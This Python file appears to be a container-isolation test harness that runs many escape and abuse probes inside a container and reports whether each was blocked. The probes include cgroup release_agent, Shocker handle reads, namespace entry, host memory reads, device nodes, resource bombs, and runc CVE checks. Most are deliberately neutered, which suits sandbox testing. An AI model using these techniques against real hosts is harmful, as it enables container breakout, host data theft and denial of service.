"""The attacks that run in a container: `python3 inside.py NAME…` tries each, and prints one line of JSON about each.

An attack returns what it gained, in words; it raises OSError or Held where something held it. Each is made so that success
harms nobody: a call that would stop or change the machine is made with arguments that the kernel refuses only after it has
allowed the call. What the attacks are after is in the environment variable FIELD: see `Field` in conftest.py.

It runs with Debian's Python and the modules that kit.py puts into the image.
"""

import ctypes
import errno
import fcntl
import json
import mmap
import os
import re
import resource
import select
import signal
import socket
import struct
import sys
import time
import traceback

FIELD = json.loads(os.environ.get("FIELD", "{}"))
PATIENCE_S = 20
AT_FDCWD = -100
NEWNS, NEWUSER, NEWNET = 0x0002_0000, 0x1000_0000, 0x4000_0000
MS_RDONLY, MS_REMOUNT, MS_BIND = 1, 32, 4096
libc = ctypes.CDLL(None, use_errno=True)
ATTACKS = {}
GIVEN = {
    name: os.readlink(f"/proc/self/fd/{name}")
    for name in os.listdir("/proc/self/fd")
    if int(name) > 2 and os.path.exists(f"/proc/self/fd/{name}")
}
"""Descriptors that it started with, but for the one that looked for them."""


class Held(Exception):  # noqa: N818 - it is no error: the guard did its work
    """What the attack is after is not there."""


def attack(function):
    ATTACKS[function.__name__] = function
    return function


def call(name, *arguments):
    """The system call *name*; raises OSError as the kernel answers."""
    number = FIELD["numbers"][name]
    words = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    result = libc.syscall(ctypes.c_long(number), *words)
    if result < 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return result


def reach(name, *arguments, answer):
    """The call gets to where the kernel looks at its arguments, and answers *answer*, one word or some, to them."""
    try:
        call(name, *arguments)
    except OSError as error:
        if error.errno not in {getattr(errno, word) for word in ([answer] if isinstance(answer, str) else answer)}:
            raise
    else:
        raise AssertionError(f"{name} was done")
    return f"the kernel looks at the arguments of {name}"


def opens(path, flags=os.O_WRONLY):
    os.close(os.open(path, flags | os.O_NONBLOCK | os.O_NOCTTY))
    return f"{path} opened"


def has_content(path):
    with open(path, "rb") as file:
        if not file.read(64):
            raise Held("it is empty")
    return f"{path} was read"


def content(path):
    with open(path, errors="replace") as file:
        return file.read()


def in_child(work):
    """What *work* returns in a child process, or raises there."""
    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            said = ["gained", work()]
        except OSError as error:
            said = ["held", errno.errorcode.get(error.errno, str(error))]
        except Held as error:
            said = ["held", str(error)]
        except BaseException:
            said = ["broken", traceback.format_exc()]
        os.write(write, json.dumps(said).encode())
        os._exit(0)
    os.close(write)
    data = b""
    until = time.monotonic() + PATIENCE_S
    while time.monotonic() < until and select.select([read], [], [], until - time.monotonic())[0]:
        if not (part := os.read(read, 1 << 16)):
            break
        data += part
    else:
        os.kill(pid, signal.SIGKILL)
    os.close(read)
    _, status = os.waitpid(pid, 0)
    if data:
        return json.loads(data)
    return ["held", signal.Signals(os.WTERMSIG(status)).name if os.WIFSIGNALED(status) else f"exit {status}"]


# mounts and roots


@attack
def mount_tmpfs():
    call("mount", b"none", b"/tmp", b"tmpfs", 0, 0)
    return "a file system is mounted"


@attack
def mount_by_fsopen():
    call("fsopen", b"tmpfs", 0)
    return "a file system is made"


@attack
def clone_mount():
    call("open_tree", AT_FDCWD, b"/", 1)  # OPEN_TREE_CLONE
    return "a mount is cloned"


@attack
def pivot_root():
    return reach("pivot_root", b"/tmp", b"/tmp", answer="EBUSY")  # it is of the root's own mount


@attack
def umount_mask():
    call("umount2", b"/proc/timer_list", 0)
    return has_content("/proc/timer_list")


@attack
def mount_proc_anew():
    call("mount", b"proc", b"/tmp", b"proc", 0, 0)
    return opens("/tmp/sys/kernel/core_pattern")


@attack
def remount_sys():
    for flags in (MS_REMOUNT, MS_REMOUNT | MS_BIND):  # the file system, and the mount
        call("mount", b"none", b"/sys", b"none", flags, 0)
    return opens(setting())


@attack
def remount_read_only_bind():
    call("mount", b"none", b"/kept", b"none", MS_REMOUNT | MS_BIND, 0)
    return opens("/kept/file", os.O_WRONLY)


@attack
def write_read_only_bind():
    return opens("/kept/file", os.O_WRONLY)


@attack
def mount_debugfs():
    call("mount", b"none", b"/tmp", b"debugfs", 0, 0)
    return f"{len(os.listdir('/tmp'))} files of debugfs"


@attack
def mount_block_device():
    node = made_node(*FIELD["block"], kind=0o060000)
    return reach("mount", node.encode(), b"/tmp", b"nonesuch", MS_RDONLY, 0, answer="ENODEV")  # a file system that is none


@attack
def release_agent():
    hierarchy = f"none,name={FIELD['token']}".encode()  # a new one, of cgroup version 1, that nothing is in
    call("mount", b"cgroup", b"/tmp", b"cgroup", 0, hierarchy)
    try:
        with open("/tmp/release_agent", "w") as file:
            file.write("/nowhere")
    finally:
        call("umount2", b"/tmp", 0)
    return "the kernel is told of a program to run"


@attack
def mount_own_cgroup():
    """Its own devices cgroup once more, and writable (version 1), or all of version 2."""
    if not os.path.exists("/sys/fs/cgroup/devices"):
        call("mount", b"cgroup2", b"/tmp", b"cgroup2", 0, 0)
        return "the control groups are mounted"
    call("mount", b"cgroup", b"/tmp", b"cgroup", 0, b"devices")
    path = content("/proc/self/cgroup").partition("devices:")[2].partition("\n")[0]
    with open(f"/tmp/{path}/devices.allow", "w") as file:
        file.write("c 1:3 rwm")
    return "its devices are its own choice"


@attack
def chroot_and_back():
    """The way out of chroot(2): a working directory above the new root, then `..`."""
    os.makedirs("/tmp/below", exist_ok=True)
    above = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    os.chroot("/tmp/below")
    os.fchdir(above)
    for _ in range(50):
        os.chdir("..")
    os.chroot(".")
    return read_secret("/")


@attack
def quotactl():
    return reach("quotactl", 0x80000700, b"/nonesuch", 0, 0, answer="ENOENT")  # Q_GETQUOTA of a device that is none


@attack
def swapon():
    return reach("swapon", b"/nonesuch", 0, answer="ENOENT")


@attack
def swapoff():
    return reach("swapoff", b"/nonesuch", answer="ENOENT")


@attack
def trim_host_disk():
    """An order to the file system of the host that a bind mount is of; a range of no bytes."""
    fd = os.open("/kept/file", os.O_RDONLY)
    try:
        fcntl.ioctl(fd, 0xC0185879, struct.pack("=QQQ", 1 << 62, 0, 0))  # FITRIM
    except OSError as error:
        if error.errno not in (errno.EINVAL, errno.EOPNOTSUPP):
            raise
    return "the file system looks at the order"


@attack
def make_immutable():
    """A file that not even the host's root can remove with its container."""
    fd = os.open("/tmp/immutable", os.O_RDONLY | os.O_CREAT)
    flags = struct.unpack("=I", fcntl.ioctl(fd, 0x80086601, struct.pack("=I", 0)))[0]  # FS_IOC_GETFLAGS
    fcntl.ioctl(fd, 0x40086602, struct.pack("=I", flags | 0x10))  # FS_IOC_SETFLAGS, FS_IMMUTABLE_FL
    fcntl.ioctl(fd, 0x40086602, struct.pack("=I", flags))
    return "a file was immutable"


@attack
def open_by_handle():
    """A file of the host by its handle, through a bind mount of its file system (the "Shocker")."""
    kind, *rest = struct.unpack("=I", bytes.fromhex(FIELD["handle"])[4:8])
    assert not rest
    handle = ctypes.create_string_buffer(bytes.fromhex(FIELD["handle"]))
    mount = os.open("/kept/file", os.O_RDONLY)
    fd = call("open_by_handle_at", mount, handle, os.O_RDONLY)
    return secret(os.read(fd, 100), f"handle of type {kind}")


# namespaces


@attack
def unshare_user():
    call("unshare", NEWUSER)
    return "root of a user namespace of its own"


@attack
def unshare_mount():
    call("unshare", NEWNS)
    return "a mount namespace"


@attack
def unshare_net():
    call("unshare", NEWNET)
    return "a network namespace"


@attack
def clone_user():
    pid = call("clone", NEWUSER | signal.SIGCHLD, 0, 0, 0, 0)
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
    return "a child in a user namespace"


@attack
def clone3_user():
    arguments = struct.pack("=11Q", NEWUSER, 0, 0, 0, signal.SIGCHLD, 0, 0, 0, 0, 0, 0)
    pid = call("clone3", arguments, len(arguments))
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
    return "a child in a user namespace"


@attack
def netfilter_of_a_user_namespace():
    """nf_tables, which had many holes, through capabilities over a network namespace of one's own."""
    call("unshare", NEWUSER | NEWNET)
    return new_table()


@attack
def setns_host_mounts():
    fd = os.open(f"/proc/{victim()}/ns/mnt", os.O_RDONLY)
    call("setns", fd, NEWNS)
    return read_secret("/")


@attack
def sethostname():
    call("sethostname", b"evil", 4)
    return "the UTS namespace has another name"


@attack
def setdomainname():
    call("setdomainname", b"evil", 4)
    return "the UTS namespace has another domain"


# processes of the host


def victim():
    """The PID, as it is here, of the host's process that FIELD names."""
    for name in os.listdir("/proc"):
        try:
            if name.isdigit() and FIELD["token"] in content(f"/proc/{name}/cmdline"):
                return int(name)
        except OSError:
            continue
    raise Held("no such process")


def secret(data, how):
    found = re.search(rb"secret-[0-9a-f]{32}", data)  # nothing else in a container looks like this
    if not found:
        raise Held("no secret there")
    return f"{found[0].decode()} by {how}"


def read_secret(root):
    try:
        with open(root + FIELD["path"], "rb") as file:
            return secret(file.read(), root)
    except FileNotFoundError:
        raise Held("no such file") from None


@attack
def kill_host_process():
    os.kill(victim(), signal.SIGUSR1)  # which it ignores
    return "a signal is sent"


@attack
def kill_everybody():
    """Signal 0 to all that it may signal, which is more than its own processes where it sees others."""
    os.kill(-1, 0)
    if not any(name.isdigit() and int(name) not in own() for name in os.listdir("/proc")):
        raise Held("none but its own")
    return "others than its own"


def own():
    """PIDs of this process's ancestors, up to `main`."""
    return {1, os.getpid(), os.getppid()}


@attack
def ptrace_host_process():
    call("ptrace", 0x4206, victim(), 0, 0)  # PTRACE_SEIZE
    return "a process of the host is traced"


@attack
def read_host_memory():
    here = ctypes.create_string_buffer(100)
    mine = struct.pack("=QQ", ctypes.addressof(here), 100)
    call("process_vm_readv", victim(), mine, 1, struct.pack("=QQ", FIELD["address"], 100), 1, 0)
    return secret(here.raw, "the memory of a process")


@attack
def read_host_environment():
    with open(f"/proc/{victim()}/environ", "rb") as file:
        return secret(file.read(), "the environment of a process")


@attack
def read_host_root():
    return read_secret(f"/proc/{victim()}/root/")


@attack
def take_host_descriptor():
    fd = call("pidfd_getfd", os.pidfd_open(victim()), FIELD["fd"], 0)
    return secret(os.pread(fd, 100, 0), "a descriptor of a process")


@attack
def doom_host_process():
    """The first that the kernel kills when memory is short."""
    with open(f"/proc/{victim()}/oom_score_adj", "w") as file:
        file.write("1000")
    return "a process of the host is the first to go"


@attack
def raise_priority():
    os.setpriority(os.PRIO_PROCESS, 0, -5)
    return "above all that the host runs"


@attack
def realtime_disk():
    call("ioprio_set", 1, 0, 1 << 13)  # IOPRIO_CLASS_RT
    return "before all that the host reads"


@attack
def kcmp():
    return reach("kcmp", os.getpid(), os.getpid(), 99, 0, 0, answer="EINVAL")


@attack
def process_madvise():
    return reach("process_madvise", -1, b"", 0, 21, 0, answer="EBADF")


@attack
def move_pages():
    return reach("move_pages", 0, 0, 0, 0, 0, 0xFFFF, answer="EINVAL")


@attack
def set_mempolicy():
    return reach("set_mempolicy", 0x7FFF, 0, 0, answer="EINVAL")


# other namespaces of the host


@attack
def read_host_shared_memory():
    libc.shmat.restype = ctypes.c_void_p
    address = libc.shmat(FIELD["shm"], None, 0o10000)  # SHM_RDONLY
    if address == ctypes.c_void_p(-1).value:
        raise OSError(ctypes.get_errno(), "shmat")
    return secret(ctypes.string_at(address, 100), "System V shared memory")


@attack
def read_host_dev_shm():
    with open(f"/dev/shm/{FIELD['token']}", "rb") as file:
        return secret(file.read(), "POSIX shared memory")


@attack
def host_name():
    if os.uname().nodename != FIELD["host"]:
        raise Held("a name of its own")
    return "the name of the host"


@attack
def host_abstract_socket():
    with socket.socket(socket.AF_UNIX) as made:
        made.connect(f"\0{FIELD['token']}")
        return secret(made.recv(100), "an abstract socket")


@attack
def host_loopback():
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as made:
        made.settimeout(3)
        made.connect(("127.0.0.1", FIELD["port"]))
        return secret(made.recv(100), "a port of 127.0.0.1")


@attack
def rebound_name():
    """A name of a stranger's, which leads to the host (DNS rebinding)."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as made:
        made.settimeout(3)
        made.connect((socket.gethostbyname("rebound.example"), FIELD["lan"]))
        return secret(made.recv(100), "a port of the host")


@attack
def sniff_host_link():
    """A packet socket on a link that has the host's address."""
    for name in os.listdir("/sys/class/net"):
        try:
            if content(f"/sys/class/net/{name}/address").strip() == FIELD["mac"]:
                socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)).close()
                return "packets of the host"
        except OSError:  # it went away
            continue
    raise Held("no such link")


@attack
def change_link():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
        request = struct.pack("=16si12x", b"lo", 65536)
        fcntl.ioctl(made, 0x8922, request)  # SIOCSIFMTU
    return "the MTU of a link is set"


def new_table():
    """An nf_tables table of this network namespace."""
    attribute = struct.pack("=HH", 4 + 5, 1) + b"evil\0\0\0\0"  # NFTA_TABLE_NAME
    payload = struct.pack("=BBH", 2, 0, 0) + attribute
    batch = struct.pack("=BBH", 0, 0, socket.htons(10))

    def message(kind, flags, body):
        return struct.pack("=IHHII", 16 + len(body), kind, flags, 1, 0) + body

    data = message(16, 1, batch) + message(10 << 8, 0x405, payload) + message(17, 1, batch)  # BATCH_BEGIN, NEWTABLE, BATCH_END
    with socket.socket(16, socket.SOCK_RAW, 12) as made:  # AF_NETLINK, NETLINK_NETFILTER
        made.settimeout(3)
        made.bind((0, 0))
        made.send(data)
        code = struct.unpack_from("=i", made.recv(4096), 16)[0]
    if code:
        raise OSError(-code, os.strerror(-code))
    return "a table of the firewall"


@attack
def change_firewall():
    return new_table()


@attack
def api_socket():
    for path in FIELD["sockets"]:
        try:
            with socket.socket(socket.AF_UNIX) as made:
                made.settimeout(5)
                made.connect(path)
                made.send(b"GET /_ping HTTP/1.1\r\nHost: x\r\n\r\n")
                if made.recv(100).startswith(b"HTTP/1.1 200"):
                    return f"the API at {path}"
        except OSError:
            continue
    raise Held("no socket")


@attack
def sockets_of_the_host():
    """Unix sockets of its network namespace that have a name are its own."""
    names = [line.split()[7] for line in content("/proc/net/unix").splitlines()[1:] if len(line.split()) > 7]
    if not names:
        raise Held("none")
    return f"{len(names)} sockets: {names[0]}"


# devices


def made_node(major, minor, kind):
    path = f"/tmp/node-{major}-{minor}-{os.getpid()}"
    os.mknod(path, kind | 0o600, os.makedev(major, minor))
    return path


@attack
def open_host_disk():
    with open(made_node(*FIELD["block"], kind=0o060000), "rb", buffering=0) as disk:
        return secret(disk.read(512), "the host's disk")


@attack
def open_disk_of_the_image():
    """A device that lay in a layer of the image."""
    with open("/srv/disk", "rb", buffering=0) as disk:
        return secret(disk.read(512), "the host's disk")


@attack
def open_kernel_log():
    return opens(made_node(1, 11, kind=0o020000), os.O_WRONLY)


@attack
def make_tap():
    """Frames of one's own making. runc lets every container open the device itself."""
    fd = os.open(made_node(10, 200, kind=0o020000), os.O_RDWR)
    fcntl.ioctl(fd, 0x400454CA, struct.pack("=16sH22x", b"evil", 0x0002))  # TUNSETIFF, IFF_TAP
    return "a network device"


@attack
def open_fuse():
    return opens(made_node(10, 229, kind=0o020000), os.O_RDWR)


@attack
def open_loop_control():
    return opens(made_node(10, 237, kind=0o020000), os.O_RDWR)


@attack
def open_console():
    return opens(made_node(4, 63, kind=0o020000), os.O_RDWR)


@attack
def make_node():
    made_node(1, 3, kind=0o020000)
    return "a device node"


# /proc, /sys and control groups


def first(*paths):
    return next(path for path in paths if os.path.exists(path))


def setting():
    return first("/sys/kernel/uevent_helper", "/sys/power/state", "/sys/kernel/profiling", "/sys/kernel/rcu_expedited")


@attack
def write_core_pattern():
    return opens("/proc/sys/kernel/core_pattern")


@attack
def write_modprobe():
    return opens(first("/proc/sys/kernel/modprobe", "/proc/sys/kernel/poweroff_cmd"))


@attack
def write_panic():
    return opens("/proc/sys/kernel/panic")


@attack
def write_net_sysctl():
    return opens("/proc/sys/net/ipv4/ip_forward")


@attack
def write_sysrq_or_irq():
    return opens(first("/proc/sysrq-trigger", "/proc/irq/default_smp_affinity"))


@attack
def write_sys():
    return opens(setting())


@attack
def write_uevent():
    return opens("/sys/class/net/lo/uevent")


@attack
def write_memory_settings():
    return opens(first("/sys/kernel/mm/ksm/run", "/sys/kernel/mm/transparent_hugepage/enabled"))


@attack
def read_kcore():
    return has_content(first("/proc/kcore", "/proc/timer_list"))


@attack
def read_interrupts():
    return has_content("/proc/interrupts")


@attack
def read_keys():
    return has_content("/proc/keys")


@attack
def read_timers():
    return has_content("/proc/timer_list")


@attack
def list_acpi():
    if not any(os.listdir(path) for path in ("/proc/acpi", "/sys/firmware") if os.path.exists(path)):
        raise Held("it is empty")
    return "what the firmware says"


@attack
def read_kernel_addresses():
    with open("/proc/kallsyms") as file:
        if not any(int(file.readline().split()[0], 16) for _ in range(100)):
            raise Held("all are 0")
    return "addresses of the kernel"


@attack
def read_kernel_log():
    return reach("syslog", 99, 0, 0, answer="EINVAL")


@attack
def raise_own_limit():
    v1 = "/sys/fs/cgroup/memory/memory.limit_in_bytes"
    with open(v1 if os.path.exists(v1) else "/sys/fs/cgroup/memory.max", "w") as file:
        file.write("-1" if os.path.exists(v1) else "max")
    return "no limit of memory"


@attack
def allow_own_devices():
    v1 = "/sys/fs/cgroup/devices/devices.allow"
    if os.path.exists(v1):
        with open(v1, "w") as file:
            file.write("a *:* rwm")
    else:  # version 2 has programs in place of files
        os.mkdir("/sys/fs/cgroup/evil")
        os.rmdir("/sys/fs/cgroup/evil")
    return "all devices are allowed"


# the kernel's other doors


@attack
def add_key():
    return reach("add_key", b"user", b"evil", b"x", 1 << 30, -3, answer="EINVAL")


@attack
def request_key():
    return reach("request_key", b"nonesuch", b"evil", 0, 0, answer="ENOKEY")


@attack
def keyctl():
    return reach("keyctl", 0, 0x7FFFFFFF, 0, answer="ENOKEY")  # KEYCTL_GET_KEYRING_ID of a key that is not there


@attack
def keyctl_of_32_bits():
    """The same by the door for 32-bit programs, which has other numbers."""
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    # push rbx; mov eax, 288; xor ebx, ebx; mov ecx, 0x7fffffff; xor edx, edx; int 0x80; pop rbx; ret
    code.write(bytes.fromhex("53 b820010000 31db b9ffffff7f 31d2 cd80 5b c3".replace(" ", "")))
    result = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))()
    if result != -errno.ENOKEY:
        raise OSError(-result, os.strerror(-result))
    return "the kernel looks at the arguments of keyctl"


@attack
def keyctl_of_x32():
    """The same by the numbers for 64-bit programs with short pointers, which not every kernel has."""
    if libc.syscall(ctypes.c_long(0x4000_0000 | FIELD["numbers"]["keyctl"]), 0, 0x7FFFFFFF, 0) < 0:
        code = ctypes.get_errno()
        if code not in (errno.ENOKEY, errno.ENOSYS):
            raise OSError(code, os.strerror(code))
    return "the kernel looks at the call"


@attack
def bpf():
    return reach("bpf", 0xFFFF, bytes(128), 128, answer="EINVAL")


@attack
def perf_event_open():
    return reach("perf_event_open", bytes(128), -1, -1, -1, 0, answer="EINVAL")


@attack
def userfaultfd():
    call("userfaultfd", os.O_CLOEXEC | 1)  # UFFD_USER_MODE_ONLY, which needs no capability
    return "page faults of one's own"


@attack
def io_uring_setup():
    return reach("io_uring_setup", 0, bytes(120), answer="EINVAL")


@attack
def fanotify_init():
    call("fanotify_init", 0, os.O_RDONLY)
    return "what the host does with its files"


@attack
def kexec_load():
    return reach("kexec_load", 0, 0, 0, 0xFFFF, answer=("EINVAL", "ENOSYS"))


@attack
def kexec_file_load():
    return reach("kexec_file_load", -1, -1, 0, 0, 0xFFFF, answer=("EINVAL", "ENOSYS"))


@attack
def init_module():
    return reach("init_module", b"no module", 9, b"", answer=("ENOEXEC", "ENOSYS"))


@attack
def finit_module():
    return reach("finit_module", -1, b"", 0, answer=("EBADF", "ENOSYS"))


@attack
def delete_module():
    return reach("delete_module", b"nonesuch", os.O_NONBLOCK, answer=("ENOENT", "ENOSYS"))


@attack
def reboot():
    return reach("reboot", 1, 2, 3, 0, answer="EINVAL")  # not the magic numbers


@attack
def clock_settime():
    return reach("clock_settime", 0, struct.pack("=qq", 0, 1 << 40), answer="EINVAL")


@attack
def settimeofday():
    return reach("settimeofday", struct.pack("=qq", 0, 1 << 40), 0, answer="EINVAL")


@attack
def adjust_clock():
    """adjtimex(2) is allowed to all, who may only read: a tick length that no clock has."""
    timex = bytearray(208)
    struct.pack_into("=I", timex, 0, 0x4000)  # ADJ_TICK
    struct.pack_into("=q", timex, 88, 1)
    return reach("adjtimex", bytes(timex), answer="EINVAL")


@attack
def acct():
    return reach("acct", b"/nonesuch", answer="ENOENT")


@attack
def iopl():
    return reach("iopl", 9, answer=("EINVAL", "ENOSYS"))


@attack
def ioperm():
    return reach("ioperm", 1 << 20, 1, 1, answer=("EINVAL", "ENOSYS"))


@attack
def vhangup():
    call("vhangup")
    return "the terminal is hung up"


@attack
def personality():
    call("personality", 0x0040000)  # ADDR_NO_RANDOMIZE
    return "addresses that can be known"


@attack
def nfsservctl():
    return reach("nfsservctl", 0, 0, 0, answer="ENOSYS")


@attack
def obsolete_calls():
    """Those that nobody needs any more."""
    for name, number in FIELD["obsolete"].items():
        if number >= 0 and libc.syscall(ctypes.c_long(number), -1, 0, 0) < 0 and ctypes.get_errno() == errno.EPERM:
            raise OSError(errno.EPERM, name)
    return "the kernel looks at them"


@attack
def vsock():
    try:
        socket.socket(40, socket.SOCK_STREAM).close()
    except OSError as error:
        if error.errno != errno.EAFNOSUPPORT:
            raise
    return "the hypervisor's network"


@attack
def kernel_crypto_socket():
    try:
        socket.socket(38, socket.SOCK_SEQPACKET).close()
    except OSError as error:
        if error.errno != errno.EAFNOSUPPORT:
            raise
    return "the kernel's cryptography"


# programs with more rights


def running(program, code):
    """What *program*, a Python, prints when it runs *code*."""
    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.dup2(write, 1)
            os.execv(program, [program, "-E", "-s", "-S", "-c", code])
        finally:
            os._exit(1)
    os.close(write)
    with os.fdopen(read) as file:
        said = file.read()
    _, status = os.waitpid(pid, 0)
    if status:
        raise Held("it does not run")
    return said


@attack
def set_user_id_program():
    if int(running("/srv/suid-python", "import os; print(os.geteuid())")):
        raise Held("as who it was")
    return "root by a program"


@attack
def file_capability():
    text = running("/srv/capable-python", "print(open('/proc/self/status').read())")
    effective = int(next(line for line in text.splitlines() if line.startswith("CapEff")).split()[1], 16)
    if not effective >> 21 & 1:
        raise Held("no capability")
    return "CAP_SYS_ADMIN by a program"


@attack
def capabilities_of_a_user():
    """Who is not root, and runs a program, must not have root's capabilities by inheritance (CVE-2022-24769)."""
    text = content("/proc/self/status")
    sets = {line.split()[0]: int(line.split()[1], 16) for line in text.splitlines() if line.startswith("Cap")}
    if not sets["CapInh:"] | sets["CapEff:"] | sets["CapAmb:"] | sets["CapPrm:"]:
        raise Held("none")
    return "capabilities"


@attack
def read_files_of_the_hosts_root():
    """A file of a mounted folder that is of the host's root alone."""
    with open("/kept/roots", "rb") as file:
        return secret(file.read(), "the rights of root")


@attack
def write_image():
    with open("/srv/hello", "a") as file:
        file.write("evil")
    return "the program is another one now"


# bombs


@attack
def fork_bomb():
    children, number = [], 100
    try:
        for _ in range(number):
            if (pid := os.fork()) == 0:
                signal.pause()
            children.append(pid)
    finally:
        for pid in children:
            os.kill(pid, signal.SIGKILL)
            os.waitpid(pid, 0)
    return f"{number} processes"


@attack
def memory_bomb():
    size = 160 << 20
    bomb = mmap.mmap(-1, size, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
    for at in range(0, size, 4096):
        bomb[at] = 1
    return f"{size >> 20} MiB of memory"


@attack
def descriptor_bomb():
    number = 500
    for _ in range(number):
        os.dup(0)
    return f"{number} descriptors"


@attack
def raise_descriptor_limit():
    try:
        resource.setrlimit(resource.RLIMIT_NOFILE, (500, 500))
    except ValueError as error:
        raise Held(str(error)) from None
    return "a higher limit"


def fill(path, size, parts):
    """*size* bytes at *path*, in so many files."""
    names = [f"{path}-{number}" for number in range(parts)]
    try:
        for name in names:
            with open(name, "wb", buffering=0) as file:
                for _ in range(size // parts // 65536):
                    if file.write(bytes(65536)) < 65536:  # the next would say why
                        file.write(b"x")
    finally:
        for name in names:
            if os.path.exists(name):
                os.unlink(name)
    return f"{size >> 20} MiB in {os.path.dirname(path)}"


@attack
def shared_memory_bomb():
    return fill("/dev/shm/bomb", 80 << 20, 1)


@attack
def hosts_bomb():
    """By /etc/hosts, which its host has in memory."""
    with open("/etc/hosts", "ab", buffering=0) as file:
        size = file.tell()
        try:
            for _ in range(128):
                if file.write(bytes(65536)) < 65536:  # the next would say why
                    file.write(b"x")
        finally:
            file.truncate(size)
    return "8 MiB in /etc/hosts"


@attack
def tmpfs_bomb():
    return fill("/small/bomb", 4 << 20, 16)


@attack
def inode_bomb():
    number = 500
    for index in range(number):
        os.close(os.open(f"/small/{index}", os.O_CREAT | os.O_WRONLY))
    return f"{number} files"


@attack
def file_size_bomb():
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    return fill("/srv/bomb", 4 << 20, 1)


# what is told to a container


@attack
def host_environment():
    with open("/proc/1/environ", "rb") as file:
        return secret(file.read(), "its environment")


@attack
def leaked_descriptors():
    """What it was given besides its three streams."""
    if not GIVEN:
        raise Held("none")
    return f"{GIVEN}"


@attack
def working_directory_outside():
    """A working directory that is not below the root, from which `..` leads on (CVE-2024-21626)."""
    for _ in range(50):
        os.chdir("..")
    return read_secret(".")


# programs of the host that enter the container: `inside.py --watch` until /tmp/stop is there


def foreign():
    """PIDs of processes whose programs are none of this container's, with descriptors of those, and what they are called."""
    own_device = os.stat("/usr/bin/python3").st_dev
    for name in os.listdir("/proc"):
        try:
            if name.isdigit() and os.stat(f"/proc/{name}/exe").st_dev != own_device:
                fd = os.open(f"/proc/{name}/exe", os.O_PATH)
                yield name, fd, os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue


def descriptors(pid):
    """The host's secret by one of that process's own descriptors, "" where there is no way."""
    path = "../" * 50 + FIELD["path"].lstrip("/")
    try:
        names = os.listdir(f"/proc/{pid}/fd")
    except OSError:
        return ""
    for name in names:
        try:
            folder = os.open(f"/proc/{pid}/fd/{name}", os.O_PATH | os.O_DIRECTORY)
        except OSError:
            continue
        try:
            with open(os.open(path, os.O_RDONLY, dir_fd=folder), "rb") as file:
                return secret(file.read(), f"descriptor {name} of a runtime")
        except (OSError, Held):
            continue
        finally:
            os.close(folder)
    return ""


def watch():
    """Wait for processes whose program is none of this container's, and open it for writing once it can be (CVE-2019-5736).
    Nothing is written. The answer is one line of JSON; /tmp/seen is there once a program was."""
    programs, answers = {}, {}
    while not os.path.exists("/tmp/stop"):
        for pid, fd, where in foreign():
            if found := descriptors(pid):
                answers["descriptors"] = found
            status = os.fstat(fd)
            if programs.setdefault((status.st_dev, status.st_ino), (fd, where))[0] != fd:
                os.close(fd)
            open("/tmp/seen", "w").close()
    until = time.monotonic() + PATIENCE_S
    for fd, where in programs.values():
        answer = "ETXTBSY"
        while answer == "ETXTBSY" and time.monotonic() < until:  # it runs still
            try:
                os.close(os.open(f"/proc/self/fd/{fd}", os.O_WRONLY))
                answer = "gained"
            except OSError as error:
                answer = errno.errorcode[error.errno]
        answers[f"{where} {fd}"] = answer
    print(json.dumps(answers), flush=True)


def main(names):
    for name in names:
        word, text = in_child(ATTACKS[name])
        print(json.dumps({"attack": name, word: text}), flush=True)


if __name__ == "__main__":
    watch() if sys.argv[1:] == ["--watch"] else main(sys.argv[1:])
